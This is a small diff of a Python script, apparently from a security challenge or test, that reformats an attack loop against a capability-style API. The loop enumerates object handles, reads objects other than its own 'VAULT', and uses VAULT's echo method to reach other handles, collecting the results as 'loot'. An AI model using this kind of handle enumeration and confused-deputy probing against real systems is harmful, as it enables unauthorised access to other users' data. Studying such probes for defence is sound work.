@@ -11,9 +11,13 @@ ask("call", VAULT, "read", {"t": ["mine"]}) == (True, "your own")
 
 # attack
 loot = []
-for handle in [*range(0, 1500), *range(10**6, 10**6 + 50), 2**31, 2**32, 2**63, 10**100]:
+for handle in [*range(1500), *range(10**6, 10**6 + 50), 2**31, 2**32, 2**63, 10**100]:
     fine, tree = ask("call", handle, "read", {"t": ["mine"]})
     if fine and handle != VAULT:
         loot.append([handle, tree])
-    loot += [tree for fine, tree in [ask("get", handle, "blueprint"), ask("call", VAULT, "echo", {"t": [{"h": handle}]})] if fine]
+    loot += [
+        tree
+        for fine, tree in [ask("get", handle, "blueprint"), ask("call", VAULT, "echo", {"t": [{"h": handle}]})]
+        if fine
+    ]
 loot
